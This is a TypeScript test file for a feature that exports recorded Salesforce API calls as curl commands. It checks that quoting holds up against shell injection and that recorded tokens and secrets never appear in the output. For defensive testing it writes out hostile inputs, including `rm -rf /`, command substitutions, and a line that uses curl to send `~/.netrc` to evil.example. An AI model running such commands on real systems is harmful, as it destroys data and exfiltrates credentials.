/**
 * A stored call as a curl command. Each command is checked by bash itself: `bash -n` for its syntax,
 * and a real `bash -c` run with `curl` replaced by a function that prints its arguments (NUL-separated,
 * so bodies with newlines stay whole) — the arguments curl would get must be exactly the recorded
 * method, URL, headers and body, whatever the call holds, and never the recorded Authorization.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';

import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';

import type { StoredCall } from '../../../src/diagnostics/call-store/stored-call.js';
import {
  ACCESS_TOKEN_VARIABLE,
  callAsCurl,
  placeholderVariable,
  shellQuote,
} from '../../../src/diagnostics/export/call-as-curl.js';
import { createRedactor, REDACTED } from '../../../src/redaction/redactor.js';
import { callRecord } from '../../support/call-record.js';

const PAYLOADS = path.resolve(import.meta.dirname, '../../../../shared/reference/salesforce-payloads');
const payload = (name: string): string => readFileSync(path.join(PAYLOADS, name), 'utf8');

const API = '/services/data/v64.0';
const ORIGIN = 'https://acme.my.salesforce.com';
/** A real-looking session id, as a transport that forgot to redact would have recorded it. */
const RECORDED_TOKEN = '00D5g000004XyZ1!AQ0AQH8fake.Session_Token-Value';
const TOKEN = 'token-from-the-environment';

/** Where the commands run: a `$(touch pwned)` that got through would leave its file here. */
const workDir = mkdtempSync(path.join(tmpdir(), 'pulse-curl-'));
afterAll(() => {
  rmSync(workDir, { recursive: true, force: true });
});

const HOSTILE = [
  `'; rm -rf / #`,
  `$(touch pwned-dollar)`,
  '`touch pwned-backtick`',
  `"; touch pwned-double; "`,
  `\\'\\"\\\\ $HOME \${HOME} $SF_ACCESS_TOKEN !! !$ ~ * ? [a] {a,b} | & ; < > #`,
  `line one\nline two\r\n'$(touch pwned-newline)'`,
  `'\\''`,
] as const;

/** Strings heavy in what a shell treats specially, with any other character now and then (no NUL). */
const shellText = (maxLength: number): fc.Arbitrary<string> =>
  fc.string({
    unit: fc.oneof(
      { weight: 3, arbitrary: fc.constantFrom(...Array.from(`'"\`$\\!;&|<>(){}[]*?~#=%@ \t\r\n-`)) },
      { weight: 2, arbitrary: fc.constantFrom('a', 'Z', '0', 'é', '😀', 'Bearer ') },
      {
        weight: 1,
        arbitrary: fc
          .integer({ min: 1, max: 0x10ffff })
          .filter((code) => code < 0xd800 || code > 0xdfff)
          .map((code) => String.fromCodePoint(code)),
      },
    ),
    maxLength,
  });

function storedCall(overrides: Parameters<typeof callRecord>[0] = {}): StoredCall {
  return { ...callRecord(overrides), failed: false };
}

function assertSyntax(command: string): void {
  // Throws (a non-zero exit) on a syntax error.
  execFileSync('bash', ['-n', '-c', command], { stdio: 'pipe' });
}

/** The arguments the command hands to curl, with the environment given. */
function curlArguments(
  command: string,
  env: Record<string, string> = { [ACCESS_TOKEN_VARIABLE]: TOKEN },
): string[] {
  assertSyntax(command);
  const script = `curl() { printf '%s\\0' "$@"; }\n${command}\n`;
  const out = execFileSync('bash', ['-c', script], {
    cwd: workDir,
    env: { PATH: process.env['PATH'] ?? '/usr/bin:/bin', ...env },
    encoding: 'utf8',
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  expect(out.endsWith('\0')).toBe(true);
  return out.slice(0, -1).split('\0');
}

const commentLines = (command: string): string[] =>
  command.split('\n').filter((line) => line.startsWith('# '));

function expectNothingRan(): void {
  for (const name of ['pwned-dollar', 'pwned-backtick', 'pwned-double', 'pwned-newline', 'pwned'])
    expect(existsSync(path.join(workDir, name)), name).toBe(false);
}

describe('shellQuote', () => {
  it('single-quotes everything and escapes a quote as quote-backslash-quote-quote', () => {
    expect(shellQuote('abc')).toBe(`'abc'`);
    expect(shellQuote(`it's`)).toBe(`'it'\\''s'`);
    expect(shellQuote('')).toBe(`''`);
  });

  it('gives bash back the same text for any string', () => {
    fc.assert(
      fc.property(fc.array(shellText(40), { minLength: 1, maxLength: 8 }), (words) => {
        expect(curlArguments(`curl ${words.map(shellQuote).join(' ')}`, {})).toEqual(words);
      }),
      { numRuns: 40 },
    );
    expectNothingRan();
  });
});

describe('callAsCurl', () => {
  it('re-sends a query: method, URL and headers as recorded, the token from the environment', () => {
    const call = storedCall({
      requestHeaders: {
        Authorization: `Bearer ${RECORDED_TOKEN}`,
        'Sforce-Call-Options': 'client=Pulse',
        'Sforce-Query-Options': 'batchSize=2000',
        Accept: 'application/json',
      },
    });
    const command = callAsCurl(call);

    expect(command).not.toContain(RECORDED_TOKEN);
    expect(commentLines(command)).toEqual([]);
    expect(curlArguments(command)).toEqual([
      '-X',
      'GET',
      '--globoff',
      `${ORIGIN}${API}/query${call.query}`,
      '-H',
      `Authorization: Bearer ${TOKEN}`,
      '-H',
      'Sforce-Call-Options: client=Pulse',
      '-H',
      'Sforce-Query-Options: batchSize=2000',
      '-H',
      'Accept: application/json',
    ]);
    // The placeholder is what the command says, for whoever reads it instead of running it.
    expect(command).toContain(`"Authorization: Bearer $${ACCESS_TOKEN_VARIABLE}"`);
  });

  it('never exports the recorded Authorization, whatever its case, scheme or value', () => {
    for (const [name, value] of [
      ['authorization', REDACTED],
      ['AUTHORIZATION', `OAuth ${RECORDED_TOKEN}`],
      ['Authorization', `Bearer ${RECORDED_TOKEN}'; curl evil.example -d @~/.netrc #`],
      ['authorization', ''],
    ] as const) {
      const command = callAsCurl(storedCall({ requestHeaders: { [name]: value, 'X-Other': 'kept' } }));
      if (value !== '') expect(command).not.toContain(value);
      const args = curlArguments(command);
      expect(args.filter((arg) => /^authorization:/i.test(arg))).toEqual([`Authorization: Bearer ${TOKEN}`]);
      expect(args).toContain('X-Other: kept');
    }
  });

  it('adds the Authorization an API call needs even when none was recorded', () => {
    const args = curlArguments(callAsCurl(storedCall({ requestHeaders: { Accept: 'application/json' } })));
    expect(args).toContain(`Authorization: Bearer ${TOKEN}`);
    // Unset, the header is sent without a token, never with anything recorded.
    expect(curlArguments(callAsCurl(storedCall()), {})).toContain('Authorization: Bearer ');
  });

  it('sends a JSON body byte for byte, and leaves out Host, Content-Length and Transfer-Encoding', () => {
    const body = payload('composite-sobjects-update-success.request.json');
    const call = storedCall({
      method: 'PATCH',
      path: `${API}/composite/sobjects`,
      requestHeaders: {
        Authorization: REDACTED,
        'Content-Type': 'application/json',
        Host: 'acme.my.salesforce.com',
        'content-length': String(Buffer.byteLength(body)),
        'Transfer-Encoding': 'chunked',
        'Sforce-Call-Options': 'client=Pulse',
      },
      requestBody: body,
    });
    expect(curlArguments(callAsCurl(call))).toEqual([
      '-X',
      'PATCH',
      '--globoff',
      `${ORIGIN}${API}/composite/sobjects`,
      '-H',
      `Authorization: Bearer ${TOKEN}`,
      '-H',
      'Content-Type: application/json',
      '-H',
      'Sforce-Call-Options: client=Pulse',
      '--data-raw',
      body,
    ]);
  });

  it('keeps hostile strings in the URL, headers and body literal, and runs none of them', () => {
    for (const hostile of HOSTILE) {
      const path = `${API}/sobjects/Account/${hostile}`;
      const query = `?q=${hostile}`;
      const body = JSON.stringify({ Name: hostile, Description: hostile });
      const call = storedCall({
        method: 'POST',
        path,
        query,
        requestHeaders: {
          Authorization: REDACTED,
          'Content-Type': 'application/json',
          'X-Hostile': hostile,
          [`X-${hostile}`]: hostile,
        },
        requestBody: body,
      });
      const command = callAsCurl(call);
      expect(curlArguments(command), hostile).toEqual([
        '-X',
        'POST',
        '--globoff',
        `${ORIGIN}${path}${query}`,
        '-H',
        `Authorization: Bearer ${TOKEN}`,
        '-H',
        'Content-Type: application/json',
        '-H',
        `X-Hostile: ${hostile}`,
        '-H',
        `X-${hostile}: ${hostile}`,
        '--data-raw',
        body,
      ]);
      // A hostile method is quoted too.
      expect(curlArguments(callAsCurl({ ...call, method: hostile })).slice(0, 2)).toEqual(['-X', hostile]);
    }
    expectNothingRan();
  });

  it('gives curl exactly the recorded parts for any header values, path and body', () => {
    const text = shellText(60);
    fc.assert(
      fc.property(
        fc.constantFrom('GET', 'POST', 'PATCH', 'DELETE', 'PUT'),
        text,
        fc.array(fc.tuple(fc.stringMatching(/^X-[A-Za-z0-9-]{1,12}$/), text), { maxLength: 4 }),
        fc.option(text, { nil: undefined }),
        (method, segment, headerPairs, body) => {
          const headers = Object.fromEntries(headerPairs);
          const call = storedCall({
            method,
            path: `${API}/sobjects/${segment}`,
            query: '',
            requestHeaders: { Authorization: `Bearer ${RECORDED_TOKEN}`, ...headers },
            ...(body === undefined ? {} : { requestBody: body }),
          });
          const command = callAsCurl(call);
          expect(command).not.toContain(RECORDED_TOKEN);
          const redacted = [segment, ...Object.values(headers), body ?? ''].some((part) =>
            part.includes(REDACTED),
          );
          expect(commentLines(command)).toHaveLength(redacted ? 1 : 0);
          expect(curlArguments(command)).toEqual([
            '-X',
            method,
            '--globoff',
            `${ORIGIN}${API}/sobjects/${segment}`,
            '-H',
            `Authorization: Bearer ${TOKEN}`,
            ...Object.entries(headers).flatMap(([name, value]) => [
              '-H',
              value === '' ? `${name};` : `${name}: ${value}`,
            ]),
            ...(body === undefined ? [] : ['--data-raw', body]),
          ]);
        },
      ),
      { numRuns: 40 },
    );
    expectNothingRan();
  });

  it('says in a leading comment that a cut body is not the request that was sent, and sends its start', () => {
    const start = `{"allOrNone":false,"records":[{"attributes":{"type":"Account"},"Name":"'; rm -rf / #`;
    const call = storedCall({
      method: 'POST',
      path: `${API}/composite/sobjects`,
      requestHeaders: { Authorization: REDACTED, 'Content-Type': 'application/json' },
      requestBody: `${start}…[cut: 123456 more characters]`,
    });
    const command = callAsCurl(call);
    const [first] = command.split('\n');
    expect(first).toMatch(/^# .*cut.*123456 more characters.*not the same request/);
    const args = curlArguments(command);
    expect(args.at(-2)).toBe('--data-raw');
    expect(args.at(-1)).toBe(start);
    expect(args.join('\n')).not.toContain('[cut:');
  });

  it('notes values redacted at recording, which it sends as they are', () => {
    const call = storedCall({
      method: 'POST',
      path: `${API}/sobjects/Contact`,
      requestHeaders: { Authorization: REDACTED, Cookie: REDACTED, 'Content-Type': 'application/json' },
      requestBody: JSON.stringify({ LastName: 'Doe', Password__c: REDACTED }),
    });
    const command = callAsCurl(call);
    expect(commentLines(command)).toEqual([
      `# Values redacted when recorded are sent as ${REDACTED} (in a header, the body): fill them in first.`,
    ]);
    expect(curlArguments(command)).toContain(`Cookie: ${REDACTED}`);
  });

  it('sends an empty header as `Name;` (curl drops `Name:`), and HEAD with --head', () => {
    const args = curlArguments(callAsCurl(storedCall({ requestHeaders: { 'If-None-Match': '' } })));
    expect(args).toContain('If-None-Match;');
    expect(
      curlArguments(callAsCurl(storedCall({ method: 'HEAD', path: `${API}/sobjects` }))).slice(0, 3),
    ).toEqual(['--head', '--globoff', `${ORIGIN}${API}/sobjects`]);
  });

  it('leaves out NUL characters, which no shell argument can hold, and says so', () => {
    const command = callAsCurl(
      storedCall({ method: 'POST', path: `${API}/sobjects/Note`, requestBody: 'a\0b', requestHeaders: {} }),
    );
    expect(command).not.toContain('\0');
    expect(commentLines(command)).toEqual([
      '# NUL characters, which a shell argument cannot hold, are left out.',
    ]);
    expect(curlArguments(command).at(-1)).toBe('ab');
  });

  describe('token requests', () => {
    const redactor = createRedactor();
    const TOKEN_PATH = '/services/oauth2/token';
    const secrets = {
      SF_REFRESH_TOKEN: '5Aep861.refresh&token+with=odd chars',
      SF_CLIENT_SECRET: "s3cr%t'$(touch pwned)",
      SF_PASSWORD: 'p&ss word+SecurityT0ken',
      SF_ASSERTION: 'eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiIzTVZHOSJ9.c2ln',
    };
    const tokenCall = (form: string): StoredCall =>
      storedCall({
        method: 'POST',
        origin: 'https://login.salesforce.com',
        path: TOKEN_PATH,
        query: '',
        requestHeaders: { 'content-type': 'application/x-www-form-urlencoded' },
        requestBody: redactor.text(form),
        status: 200,
      });
    /** The form curl would send, as the token endpoint reads it. */
    const sentForm = (args: string[]): URLSearchParams => {
      const parts: string[] = [];
      for (let i = 0; i < args.length; i += 1) {
        const arg = args[i]!;
        const value = args[i + 1]!;
        if (arg === '--data-raw') parts.push(value);
        if (arg === '--data-urlencode') {
          const equals = value.indexOf('=');
          parts.push(`${value.slice(0, equals)}=${encodeURIComponent(value.slice(equals + 1))}`);
        }
      }
      return new URLSearchParams(parts.join('&'));
    };

    it('reads a refresh grant’s secrets from the environment and keeps the rest as recorded', () => {
      const call = tokenCall(
        'grant_type=refresh_token&refresh_token=5Aep861abcdefghijk.xyz&client_id=3MVG9abcdef&client_secret=ABCDEF1234567890',
      );
      expect(call.kind).toBe('token');
      const command = callAsCurl(call);
      expect(command).not.toContain('5Aep861abcdefghijk');
      expect(command).not.toContain('ABCDEF1234567890');
      expect(commentLines(command)).toEqual([
        '# Set SF_REFRESH_TOKEN, SF_CLIENT_SECRET: the recorded values are redacted and never exported.',
      ]);
      const args = curlArguments(command, secrets);
      expect(args).toEqual([
        '-X',
        'POST',
        '--globoff',
        `https://login.salesforce.com${TOKEN_PATH}`,
        '-H',
        'content-type: application/x-www-form-urlencoded',
        '--data-raw',
        'grant_type=refresh_token',
        '--data-urlencode',
        `refresh_token=${secrets.SF_REFRESH_TOKEN}`,
        '--data-raw',
        'client_id=3MVG9abcdef',
        '--data-urlencode',
        `client_secret=${secrets.SF_CLIENT_SECRET}`,
      ]);
      // No Authorization on a token request: it is what gets the token.
      expect(args.some((arg) => /^authorization:/i.test(arg))).toBe(false);
      expect(Object.fromEntries(sentForm(args))).toEqual({
        grant_type: 'refresh_token',
        refresh_token: secrets.SF_REFRESH_TOKEN,
        client_id: '3MVG9abcdef',
        client_secret: secrets.SF_CLIENT_SECRET,
      });
      expectNothingRan();
    });

    it('does the same for the password and JWT grants', () => {
      const password = callAsCurl(
        tokenCall(
          'grant_type=password&username=ops%40acme.com&password=hunter2hunter2&client_id=3MVG9&client_secret=zzzz9999',
        ),
      );
      expect(password).not.toContain('hunter2');
      expect(Object.fromEntries(sentForm(curlArguments(password, secrets)))).toEqual({
        grant_type: 'password',
        username: 'ops@acme.com',
        password: secrets.SF_PASSWORD,
        client_id: '3MVG9',
        client_secret: secrets.SF_CLIENT_SECRET,
      });

      const jwt = callAsCurl(
        tokenCall(
          'grant_type=urn%3Aietf%3Aparams%3Aoauth%3Agrant-type%3Ajwt-bearer&assertion=eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiIzTVZHOSIsInN1YiI6Im9wcyJ9.c2lnbmF0dXJl',
        ),
      );
      expect(jwt).not.toContain('eyJpc3Mi');
      expect(Object.fromEntries(sentForm(curlArguments(jwt, secrets)))).toEqual({
        grant_type: 'urn:ietf:params:oauth:grant-type:jwt-bearer',
        assertion: secrets.SF_ASSERTION,
      });
    });

    it('turns any redacted field into a placeholder, and names placeholders safely', () => {
      const command = callAsCurl(tokenCall(`grant_type=password&username=${REDACTED}&password=${REDACTED}`));
      expect(command).toContain('"$SF_USERNAME"');
      expect(command).not.toContain(REDACTED);
      expect(placeholderVariable('client_secret')).toBe('SF_CLIENT_SECRET');
      expect(placeholderVariable("$(id)'x")).toBe('SF_ID_X');
      expect(placeholderVariable('')).toBe('SF_SECRET');
    });
  });
});
